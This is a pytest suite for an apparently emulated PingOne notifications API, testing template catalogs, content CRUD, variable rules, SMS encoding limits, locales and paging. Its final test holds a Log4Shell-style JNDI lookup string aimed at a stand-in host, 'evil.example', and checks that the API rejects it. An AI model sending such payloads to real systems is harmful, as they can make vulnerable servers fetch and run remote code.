"""Templates catalog and contents: every rule of seed 001, over HTTP."""

from __future__ import annotations

from typing import Any

import pytest

from pingone_notifications.resources.template_content import TEMPLATE_NAMES as API_TEMPLATE_NAMES
from pingone_notifications.testing import EmulatorProcess

from .conftest import Api, detail_codes, make_api

TEMPLATE_NAMES = set(API_TEMPLATE_NAMES)  # the API's EnumTemplateName, as the client knows it


def sms(content: str, **extra: Any) -> dict[str, Any]:
    return {"locale": "en", "deliveryMethod": "SMS", "content": content, **extra}


def test_catalog_lists_the_16_templates(api: Api) -> None:
    page = api.ok("GET", "/templates")
    templates = page["_embedded"]["templates"]
    assert {t["id"] for t in templates} == TEMPLATE_NAMES
    assert page["count"] == 16
    one = api.ok("GET", "/templates/device_pairing")
    assert one["deliveryMethods"] == ["SMS", "Email", "Voice"]
    assert one["variables"]["otp"] == {"required": True}
    assert one["variables"]["user.username"] == {"required": False}
    assert one["_links"]["self"]["href"].endswith("/templates/device_pairing")
    strong = api.ok("GET", "/templates/strong_authentication")
    assert strong["variables"]["otp"]["requiredForDeliveryMethods"] == ["SMS", "Voice", "Email"]
    assert api.error("GET", "/templates/nope", 404)["code"] == "NOT_FOUND"


def test_default_contents_exist_and_cannot_be_changed(api: Api) -> None:
    contents = api.ok("GET", "/templates/device_pairing/contents")["_embedded"]["contents"]
    defaults = [c for c in contents if c["default"]]
    assert {(c["deliveryMethod"], c["locale"]) for c in defaults} >= {("SMS", "en"), ("Email", "fr"), ("Voice", "de")}
    target = defaults[0]
    body = api.error("PUT", f"/templates/device_pairing/contents/{target['id']}", json=sms("New ${otp}"))
    assert detail_codes(body) == [("CONSTRAINT_VIOLATION", "default")]
    api.error("DELETE", f"/templates/device_pairing/contents/{target['id']}")
    assert api.ok("GET", f"/templates/device_pairing/contents/{target['id']}")["default"] is True


def test_custom_content_crud(api: Api) -> None:
    path = "/templates/strong_authentication/contents"
    created = api.ok("POST", path, 201, json=sms("Code ${otp}", sender="Acme"))
    assert created["default"] is False
    assert created["template"] == {"id": "strong_authentication"}
    assert created["sender"] == "Acme"
    assert created["createdAt"] == created["updatedAt"]
    assert created["_links"]["template"]["href"].endswith("/templates/strong_authentication")
    got = api.ok("GET", f"{path}/{created['id']}")
    assert got["content"] == "Code ${otp}"
    updated = api.ok("PUT", f"{path}/{created['id']}", json=sms("Your code: ${otp}", variant="b"))
    assert updated["content"] == "Your code: ${otp}"
    assert updated["variant"] == "b"
    assert "sender" not in updated, 'PUT is a full replacement: the omitted sender is cleared (not echoed as "")'
    assert updated["updatedAt"] > created["updatedAt"]
    assert updated["createdAt"] == created["createdAt"]
    api.ok("DELETE", f"{path}/{created['id']}", 204)
    api.error("GET", f"{path}/{created['id']}", 404)
    api.error("DELETE", f"{path}/{created['id']}", 404)


def test_locale_and_delivery_method_are_immutable(api: Api) -> None:
    path = "/templates/strong_authentication/contents"
    created = api.ok("POST", path, 201, json=sms("Code ${otp}"))
    body = api.error("PUT", f"{path}/{created['id']}", json={**sms("Code ${otp}"), "locale": "fr"})
    assert ("INVALID_VALUE", "locale") in detail_codes(body)
    body = api.error(
        "PUT", f"{path}/{created['id']}", json={"locale": "en", "deliveryMethod": "Voice", "content": "Code ${otp}"}
    )
    assert ("INVALID_VALUE", "deliveryMethod") in detail_codes(body)


@pytest.mark.parametrize(
    ("template", "content", "expected"),
    [
        ("strong_authentication", "No code here", [("REQUIRED_VALUE", "content")]),
        ("recovery_code_template", "Use ${greeting} ${code.value}", [("INVALID_VALUE", "content")]),
        ("recovery_code_template", "Use ${code.value} ${user.username}", []),
        ("general", "Any ${thing} at all", []),  # dynamic variables allowed
        ("device_pairing", "Hi ${whatever} ${otp}", []),  # dynamic variables allowed
    ],
)
def test_allowed_and_required_variables(api: Api, template: str, content: str, expected: list[Any]) -> None:
    response = api.call("POST", f"/templates/{template}/contents", json=sms(content))
    if expected:
        assert response.status_code == 400
        assert detail_codes(response.json()) == expected
        message = response.json()["details"][0]["message"]
        assert "${" in message  # names the variable
    else:
        assert response.status_code == 201, response.text


def test_push_requires_otp_only_where_the_template_says(api: Api) -> None:
    push = {"locale": "en", "deliveryMethod": "Push", "title": "Approve?", "body": "Tap to approve"}
    assert api.call("POST", "/templates/strong_authentication/contents", json=push).status_code == 201


def test_sms_length_by_encoding(api: Api) -> None:
    path = "/templates/general/contents"
    assert api.call("POST", path, json=sms("a" * 153)).status_code == 201
    body = api.error("POST", path, json={**sms("a" * 154), "locale": "fr"})
    assert detail_codes(body) == [("SIZE_LIMIT_EXCEEDED", "content")]
    assert "GSM-7" in body["details"][0]["message"]
    # GSM-7 extension characters count twice
    body = api.error("POST", path, json={**sms("{" * 77), "locale": "de"})
    assert detail_codes(body) == [("SIZE_LIMIT_EXCEEDED", "content")]
    assert api.call("POST", path, json={**sms("{" * 76), "locale": "de"}).status_code == 201
    # one non-GSM character switches to UCS-2 and its 67 limit
    assert api.call("POST", path, json={**sms("ж" * 67), "locale": "es"}).status_code == 201
    body = api.error("POST", path, json={**sms("ж" + "a" * 67), "locale": "it"})
    assert "UCS-2" in body["details"][0]["message"]
    # an emoji is two UTF-16 code units
    body = api.error("POST", path, json={**sms("😀" * 34), "locale": "nl"})
    assert detail_codes(body) == [("SIZE_LIMIT_EXCEEDED", "content")]


@pytest.mark.parametrize(
    ("sender", "ok"),
    [
        ("Acme", True),
        ("Acme 2024", True),
        ("ABCDEFGHIJK", True),
        ("ABCDEFGHIJKL", False),
        ("Acme!", False),
        ("Ácme", False),
        ("", True),
    ],
)
def test_sender_rules(api: Api, sender: str, ok: bool) -> None:
    response = api.call("POST", "/templates/general/contents", json=sms("Hi", sender=sender))
    assert (response.status_code == 201) is ok, response.text
    if not ok:
        assert detail_codes(response.json()) == [("INVALID_VALUE", "sender")]


def test_email_subject_and_body_limits(api: Api) -> None:
    path = "/templates/general/contents"
    email = {"locale": "en", "deliveryMethod": "Email", "subject": "s" * 256, "body": "b" * (100 * 1024)}
    created = api.ok("POST", path, 201, json=email)
    # Issue 16 item 8: the default sender (seed 001: noreply@pingidentity.com "is used as 'From' by default") is
    # applied when sending; PingOne does not echo it on a content that did not set from.
    assert "from" not in created
    assert created["charset"] == "UTF-8"
    assert created["emailContentType"] == "text/html"
    body = api.error(
        "POST",
        path,
        json={
            **email,
            "locale": "fr",
            "subject": "s" * 257,
            "body": "b" * (100 * 1024 + 1),
            "from": {"address": "not-an-address"},
        },
    )
    assert sorted(detail_codes(body)) == [
        ("INVALID_VALUE", "from.address"),
        ("SIZE_LIMIT_EXCEEDED", "body"),
        ("SIZE_LIMIT_EXCEEDED", "subject"),
    ]


def test_locales(emulator: EmulatorProcess) -> None:
    api = make_api(emulator, languages=["en-GB"])
    path = "/templates/general/contents"
    for locale in ("en", "FR", "pt", "en-GB", "en_gb"):
        response = api.call("POST", path, json={**sms("Hi"), "locale": locale, "variant": locale.lower()})
        assert response.status_code == 201, (locale, response.text)
    assert detail_codes(api.error("POST", path, json={**sms("Hi"), "locale": "xx-YY"})) == [("INVALID_VALUE", "locale")]
    assert detail_codes(api.error("POST", path, json={**sms("Hi"), "locale": "en-US"})) == [
        ("INVALID_VALUE", "language")
    ]
    assert detail_codes(api.error("POST", path, json={**sms("Hi"), "locale": "sw"})) == [("INVALID_VALUE", "language")]


def test_delivery_method_must_belong_to_the_template(api: Api) -> None:
    body = api.error("POST", "/templates/email_verification_user/contents", json=sms("Code ${code}"))
    assert detail_codes(body) == [("INVALID_VALUE", "deliveryMethod")]
    body = api.error("POST", "/templates/general/contents", json={**sms("x"), "deliveryMethod": "Fax"})
    assert detail_codes(body) == [("INVALID_VALUE", "deliveryMethod")]


def test_one_custom_content_per_template_method_locale_variant(api: Api) -> None:
    path = "/templates/general/contents"
    first = api.ok("POST", path, 201, json=sms("One"))
    body = api.error("POST", path, json={**sms("Two"), "locale": "EN"})
    assert detail_codes(body) == [("UNIQUENESS_VIOLATION", None)]
    assert body["details"][0]["innerError"]["existingId"] == first["id"]
    assert api.call("POST", path, json=sms("Variant", variant="promo")).status_code == 201
    assert api.error("POST", path, json=sms("Again", variant="PROMO"))["details"][0]["code"] == "UNIQUENESS_VIOLATION"
    assert api.call("POST", path, json={**sms("Email"), "deliveryMethod": "Email", "body": "x"}).status_code == 201


def test_malformed_bodies(api: Api) -> None:
    path = "/templates/general/contents"
    raw = api.call("POST", path, content=b"{not json", headers={"content-type": "application/json"})
    assert raw.status_code == 400
    assert raw.json()["code"] == "INVALID_REQUEST"
    assert api.call("POST", path, json=["a list"]).status_code == 400
    body = api.error("POST", path, json={"deliveryMethod": "SMS"})
    assert ("REQUIRED_VALUE", "locale") in detail_codes(body)
    assert ("REQUIRED_VALUE", "content") in detail_codes(body)


def test_filter_order_limit_and_paging(api: Api) -> None:
    path = "/templates/general/contents"
    ids = [api.ok("POST", path, 201, json=sms(f"Msg {i}", variant=f"v{i}"))["id"] for i in range(5)]
    custom = api.ok("GET", path, params={"filter": 'default eq false and deliveryMethod eq "SMS"'})
    assert [c["id"] for c in custom["_embedded"]["contents"]] == list(reversed(ids)), "default order: updatedAt desc"
    ascending = api.ok("GET", path, params={"filter": "default eq false", "order": "-createdAt"})
    assert [c["id"] for c in ascending["_embedded"]["contents"]] == ids
    either = api.ok("GET", path, params={"filter": '(locale eq "fr") or (locale eq "de")'})
    assert {c["locale"] for c in either["_embedded"]["contents"]} == {"fr", "de"}
    first = ascending["_embedded"]["contents"][0]
    later = api.ok("GET", path, params={"filter": f'default eq false and createdAt gt "{first["createdAt"]}"'})
    assert first["id"] not in {c["id"] for c in later["_embedded"]["contents"]}
    assert len(later["_embedded"]["contents"]) == 4

    seen: list[str] = []
    page = api.ok("GET", path, params={"filter": "default eq false", "limit": "2", "order": "-createdAt"})
    while True:
        seen += [c["id"] for c in page["_embedded"]["contents"]]
        assert page["size"] == len(page["_embedded"]["contents"]) <= 2
        nxt = page["_links"].get("next")
        if not nxt:
            break
        response = api.http.get(nxt["href"])
        assert response.status_code == 200
        page = response.json()
    assert seen == ids

    for bad in ('locale co "en"', "nosuch eq 1", "locale eq", '(locale eq "en"', 'locale eq "en" junk'):
        body = api.error("GET", path, params={"filter": bad})
        assert detail_codes(body) == [("INVALID_FILTER", "filter")], bad
    assert api.error("GET", path, params={"order": "locale"})["details"][0]["target"] == "order"
    assert api.error("GET", path, params={"limit": "0"})["details"][0]["target"] == "limit"
    assert api.call("GET", path, params={"cursor": "!!!"}).status_code == 400
    templates = api.ok("GET", "/templates", params={"limit": "5"})
    assert templates["size"] == 5
    assert templates["count"] == 16
    assert "next" in templates["_links"]


def test_delete_a_variant_across_contents(api: Api) -> None:
    path = "/templates/general/contents"
    api.ok("POST", path, 201, json=sms("A", variant="spring"))
    api.ok("POST", path, 201, json={**sms("B", variant="spring"), "locale": "fr"})
    keep = api.ok("POST", path, 201, json=sms("C", variant="autumn"))
    api.ok("DELETE", path, 204, params={"filter": 'variant eq "spring"'})
    remaining = api.ok("GET", path, params={"filter": "default eq false"})["_embedded"]["contents"]
    assert [c["id"] for c in remaining] == [keep["id"]]


def test_variable_names_must_be_names_even_where_dynamic_variables_are_allowed(api: Api) -> None:
    body = api.error("POST", "/templates/general/contents", json=sms("Hi ${jndi:ldap://evil.example/a}"))
    assert detail_codes(body) == [("INVALID_VALUE", "content")]
    assert "not a valid variable name" in body["details"][0]["message"]
